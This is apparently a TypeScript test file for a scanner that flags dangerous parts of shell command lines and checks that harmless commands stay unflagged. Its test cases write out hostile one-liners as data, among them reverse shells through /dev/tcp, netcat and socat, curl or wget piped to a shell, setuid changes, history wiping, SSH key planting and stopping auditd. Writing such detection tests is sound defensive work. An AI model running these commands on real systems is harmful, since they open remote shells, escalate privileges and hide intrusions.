// What is marked in command lines, and that what is harmless is left alone.
import assert from "node:assert/strict";
import { test } from "node:test";
import { MARKED_LENGTH_MAX, MARKS_MAX } from "./limits.ts";
import { markCommand } from "./mark-command.ts";

/** The marked parts of a text with a word of each reason. */
function marked(text: string): readonly (readonly [string, string])[] {
  return markCommand(text).marks.map(({ start, end, reason }) => [text.slice(start, end), reason]);
}

const CASES: readonly (readonly [command: string, part: string, reason: RegExp])[] = [
  [`python3 -c import pty; pty.spawn("/bin/bash")`, `pty.spawn("/bin/bash")`, /terminal/],
  ["bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "/dev/tcp/127.0.0.1/4444", /connection/],
  ["sh -c echo aGk= | base64 -d | sh", "base64 -d | sh", /hidden text after decoding/],
  ["curl -s http://192.0.2.1/x | sudo bash", "curl -s http://192.0.2.1/x | sudo bash", /downloads/],
  ["wget -qO- x.test/i|sh", "wget -qO- x.test/i|sh", /downloads/],
  [
    `python -c s=socket.socket();s.connect(("192.0.2.1",443))`,
    "socket.socket()",
    /opens a connection/,
  ],
  ["perl -e use Socket;$i='192.0.2.1'", "use Socket", /opens a connection/],
  ["mkfifo /var/p", "mkfifo /var/p", /pipe/],
  ["/bin/nc -e /bin/sh 192.0.2.1 4444", "/bin/nc -e", /netcat/],
  ["ncat --exec /bin/sh -l 1", "ncat --exec", /netcat/],
  ["socat TCP:192.0.2.1:1 EXEC:/bin/sh,pty", "socat TCP:192.0.2.1:1 EXEC:/bin/sh,pty", /socat/],
  ["chmod +s /bin/bash", "chmod +s", /set-uid/],
  ["chmod u+s /opt/x", "chmod u+s", /set-uid/],
  ["chmod 4755 /opt/x", "chmod 4755", /set-uid/],
  ["bash -c history -c", "history -c", /history/],
  ["env HISTFILE=/dev/null bash", "HISTFILE=", /history/],
  ["env LD_PRELOAD=/opt/x.so ls", "LD_PRELOAD=/opt/x.so", /foreign code/],
  ["/dev/shm/.x/run --now", "/dev/shm/.x/run", /everyone may write/],
  ["tee -a /root/.ssh/authorized_keys", "/.ssh/authorized_keys", /SSH keys/],
  ["cp x /etc/cron.d/job", "/etc/cron.d/job", /starts by itself/],
  ["bash -i", "bash -i", /interactive/],
  ["setcap cap_setuid+ep /opt/x", "setcap cap_setuid+ep", /root/],
  ["systemctl stop auditd", "systemctl stop auditd", /protection/],
];

for (const [command, part, reason] of CASES) {
  test(`marked in: ${command}`, () => {
    const found = marked(command).find(([text]) => text === part || text.includes(part));
    assert.ok(found !== undefined, JSON.stringify(marked(command)));
    assert.match(found[1], reason);
  });
}

test("harmless command lines have no marks", () => {
  for (const command of [
    "/usr/bin/ls -la /home/deploy",
    "nc -l -n -s 127.0.0.1 -p 4444",
    "chmod 755 /srv/run.sh",
    "chmod +x build.sh",
    "retrieval --eval-set prod",
    "sort names | uniq -c",
    "git commit -m curl",
    "python3 /srv/job.py --since 4755",
    "",
  ]) {
    assert.deepEqual(marked(command), [], command);
  }
});

test("marks lie in order beside each other; where several reasons meet, both are given", () => {
  const { text, marks } = markCommand("curl http://x/a | bash; base64 -d /tmp/x | sh; history -c");
  let last = 0;
  for (const { start, end } of marks) {
    assert.ok(start >= last && end > start && end <= text.length);
    last = end;
  }
  const decoded = marks.find(({ reason }) => reason.includes("after decoding"));
  assert.match(decoded?.reason ?? "", /decodes hidden text/);
  assert.match(decoded?.reason ?? "", /everyone may write/);
});

test("characters that are not seen are marked; those of every day are not", () => {
  assert.deepEqual(
    marked("ls\t-l\n\u202egpj.exe \u200b").map(([text]) => text),
    ["\u202e", "\u200b"],
  );
});

test("letters that grow when they are made small shift no mark", () => {
  assert.equal(marked("İİİİ PTY.SPAWN(x)")[0]?.[0], "PTY.SPAWN(x)");
});

test("a long text of one sign, or of nothing but patterns, is marked within bounds", () => {
  for (const piece of ["pty.spawn", "| curl ", "(", "\u202e", "nc -", "a", "/tmp/", " bash -i"]) {
    const { text, marks } = markCommand(piece.repeat(200_000 / piece.length));
    assert.ok(text.length <= MARKED_LENGTH_MAX);
    assert.ok(marks.length <= MARKS_MAX);
  }
});
